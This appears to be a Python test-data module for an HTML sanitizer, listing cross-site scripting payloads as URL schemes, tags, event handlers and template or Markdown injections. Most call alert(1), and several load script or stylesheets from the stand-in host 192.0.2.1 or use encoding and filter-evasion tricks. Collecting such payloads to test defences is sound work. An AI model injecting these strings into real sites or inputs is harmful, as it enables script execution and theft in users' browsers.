"""Markup and addresses that would run if a page took them for its own: the kinds of the well-known cheat sheets. Each calls `alert(1)`
or asks another host."""

from __future__ import annotations

import base64

# Addresses, tried as an article's own, too.
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript\x1f:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#x3A;alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode() + "#alert(1)",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "//192.0.2.1/alert(1)",
    "\\\\192.0.2.1\\alert(1)",
)

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//192.0.2.1/x.js>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<!--<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</p></article></section><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='http://192.0.2.1/alert(1).css'>",
    "<style>@import 'http://192.0.2.1/alert(1).css';</style>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'></mi></math>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=1em>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
)

HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=http://192.0.2.1/x.png alt=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1) //",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<mark onclick=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<div style='animation-name:x' onanimationstart=alert(1)>",
    "<b onpointerenter=alert(1)>x</b>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) data-event="submit',
)

# For scripts, templates, Markdown and terminals rather than for HTML.
OTHERS = (
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "`-alert(1)-`",
    "';alert(1)//",
    '\\";alert(1)//',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "[x](javascript:alert(1))",
    "![x](http://192.0.2.1/alert(1).png)",
    "<javascript:alert(1)>",
)

PAYLOADS = (*SCHEMES, *TAGS, *HANDLERS, *OTHERS)
